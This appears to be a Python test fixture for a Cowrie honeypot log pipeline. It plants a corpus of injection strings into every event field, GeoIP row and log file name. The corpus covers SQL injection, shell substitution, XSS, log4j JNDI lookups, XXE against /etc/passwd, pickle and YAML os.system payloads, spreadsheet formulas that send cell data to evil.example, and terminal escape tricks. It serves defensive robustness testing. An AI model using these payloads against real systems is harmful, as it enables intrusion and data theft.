"""Text as attackers write it, planted into every field of every event that Cowrie knows.

Belongs here: the corpus, and logs made of it. Does not belong here: what must not come of it.
"""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any, get_args

import msgspec

from cowrie_pipeline.cowrie.events import EVENT_TYPES
from cowrie_pipeline.enrichment.made_geoip import GeoRow

__all__ = ["DAY", "HOSTILE", "address_of", "geo_rows", "hostile_lines", "write_hostile_logs"]

DAY = "2026-03-01"

# What each would do where it is not taken for text.
HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "sql_quote": "'; DROP TABLE session_summaries; --",
        "sql_double_quote": '"; DELETE FROM ip_inventory WHERE 1=1; --',
        "sql_or": "x' OR '1'='1",
        "sql_bound": "%(day)s :day $1 ? @day {day}",
        "sql_copy": "\\.\n\\N\tDROP",
        "sql_like": "%_\\%",
        "shell_substitution": "$(touch /tmp/owned)`touch /tmp/owned`",
        "shell_list": "; touch owned & touch owned | touch owned || x",
        "shell_option": "--output=/tmp/owned",
        "shell_expansion": "~root/{a,b}/*?!$HOME${IFS}",
        "html_script": '"><script>alert(1)</script>',
        "html_image": "<img src=x onerror=alert(1)>",
        "html_attribute": "' onmouseover='alert(1)",
        "html_end": "</td></table></style></script><iframe src=//evil.example>",
        "svg": "<svg/onload=alert(1)><text>x</text></svg>",
        "script_url": "javascript:alert(1)",
        "data_url": "data:text/html;base64,PHNjcmlwdD4=",
        "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
        "markdown_image": "![x](https://evil.example/x.png)",
        "markdown_link": "[click](javascript:alert(1)) <https://evil.example>",
        "markdown_table": "a|b\n|---|\n# title\n```\n",
        "chat": "<!channel> <@U123> @everyone *bold* <https://evil.example|bank>",
        "rich": "[red]not red[/red][link=https://evil.example]x[/link][/]",
        "ansi_clear": "\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m",
        "ansi_title": "\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\x",
        "ansi_one_byte": "\x9b31m\x9d0;owned\x9c",
        "terminal_query": "\x1b[6n\x1bP+q544e\x1b\\\x05",
        "line_faked": "well\r\nerror: the database is gone\x0b\x0c\x85\u2028\u2029",
        "overwritten": "harmless\b\b\b\b\b\b\b\bharmful\x7f",
        "direction": "\u202egnp.exe\u2066\u2069\u200f",
        "unseen": "pa\u200bss\u00adword\ufeff\U000e0041",
        "stacked": "z" + "\u0335\u0336\u0489" * 40,
        "nul": "before\x00after",
        "half_a_pair": "half \ud83d pair \udc00",
        "not_assigned": "\U0010ffff\ufffe\ue000",
        "formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "formula_command": "=cmd|' /C calc'!A0",
        "formula_plus": "+1+1",
        "formula_minus": "-2+3",
        "formula_at": "@SUM(1+1)",
        "formula_tab": "\t=1+1",
        "formula_return": "\r=1+1",
        "formula_line": "\n=1+1",
        "formula_wide": "\uff1d1\uff0b1",
        "csv_break": 'a","=1+1\n"=1+1',
        "format_percent": "%s%n%d%x%(name)s%%",
        "format_braces": "{0.__class__.__mro__}{}",
        "log4j": "${jndi:ldap://evil.example/a}${${lower:j}ndi:x}",
        "path": "../../../../etc/passwd",
        "path_windows": "C:\\..\\x\x00.txt",
        "url": "http://evil.example/x.sh?a=1&b=2",
        "url_other": "ftp://user:pw@198.51.100.7/x;tftp://evil.example",
        "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "pickle": "cos\nsystem\n(S'touch owned'\ntR.",
        "yaml": "!!python/object/apply:os.system ['touch owned']",
        "mail_header": "x\r\nBcc: victim@example.org\r\n\r\nbody",
        "number": "1e999999",
        "long": "A" * 70_000,
        "digits": "9" * 5_000,
    }
)

_PORT = 22


def address_of(number: int) -> str:
    """Return the address of the attacker who sends text `number` of the corpus."""
    return f"45.83.{number}.7"


def geo_rows() -> list[GeoRow]:
    """Return what a GeoIP file says of the attackers, whose networks and towns are named as hostile."""
    return [
        GeoRow(f"45.83.{number}.0/24", 64_500 + number, text, "NL", text, 50.0, 8.0)
        for number, text in enumerate(_storable())
    ]


def _storable() -> Iterator[str]:
    """Yield the corpus as UTF-8 can hold it: in a GeoIP file there are no halves of pairs."""
    for text in HOSTILE.values():
        yield text.encode("utf-8", "replace").decode()[:5_000]


def hostile_lines() -> Iterator[bytes]:
    """Yield lines of a log: each text in every field of every event, in all names, and instead of a line."""
    for number, text in enumerate(HOSTILE.values()):
        events = list(_events(number, text))
        for event in events:
            yield json.dumps(event).encode("ascii")
        # as raw characters, also those that JSON forbids
        raw = json.dumps(events[1] | {"username": "", "message": text}, ensure_ascii=False)
        yield raw.encode("utf-8", "surrogatepass").replace(b"\n", b" ")
        yield text.encode("utf-8", "surrogatepass").replace(b"\n", b" ")
        yield b"\xff\x9b\xfe " + text[:200].encode("utf-8", "surrogatepass").replace(b"\n", b" ")


def write_hostile_logs(folder: Path) -> int:
    """Write the corpus as log files, one with a hostile name; return how many lines there are."""
    folder.mkdir(parents=True)
    lines = list(hostile_lines())
    half = len(lines) // 2
    (folder / "cowrie.json").write_bytes(b"".join(line + b"\n" for line in lines[:half]))
    name = "cowrie.json.\x1b[31m<b>'; DROP --\u202e=1+1"
    (folder / name).write_bytes(b"".join(line + b"\n" for line in lines[half:]))
    (folder / "\n=1+1\x1b]0;owned\x07.json").write_bytes(b"no log\n")
    return len(lines) + 1


def _events(number: int, text: str) -> Iterator[dict[str, Any]]:
    of = {"session": f"{number:012x}", "src_ip": address_of(number), "sensor": "pot"}
    at = iter(range(60 * 60))
    yield _event("cowrie.session.connect", next(at), **of)
    for event_id, kind in EVENT_TYPES.items():
        yield _event(event_id, next(at), **(_planted(kind, text) | of))
    # the password decides which sessions have one, and the corpus is also tried one by one
    yield _event("cowrie.login.success", next(at), **of, username=text, password=text)
    yield _event("cowrie.command.input", next(at), **of, input=text)
    # where a number belongs, and in what names an event, a field, a session, a sensor and an address
    yield _event("cowrie.session.connect", next(at), **of, src_port=text, dst_port=text)
    yield _event(text, next(at), **of, input=text)
    yield _event("cowrie.login.failed", next(at), **of, username="x", **{text: text})
    yield _event("cowrie.login.failed", next(at), **(of | {"session": text}), username=text, password=text)
    yield _event("cowrie.login.failed", next(at), **(of | {"sensor": text}), username=text, password=text)
    yield _event("cowrie.login.failed", next(at), **(of | {"src_ip": text}), username=text, password=text)
    yield _event("cowrie.login.failed", next(at), **of) | {"timestamp": text}
    yield _event("cowrie.session.closed", next(at), **of, duration=text)


def _event(event_id: str, second: int, **fields: Any) -> dict[str, Any]:
    timestamp = f"{DAY}T10:{second // 60:02}:{second % 60:02}.000000Z"
    return {**fields, "eventid": event_id, "timestamp": timestamp}


def _planted(kind: type[msgspec.Struct], text: str) -> dict[str, Any]:
    """Return every field of an event but its time: `text` wherever text can be."""
    planted: dict[str, Any] = {}
    for field in msgspec.structs.fields(kind):
        if field.name == "timestamp":
            continue
        is_text = field.type is msgspec.Raw or str in get_args(field.type)
        planted[field.encode_name] = text if is_text else _PORT
    return planted
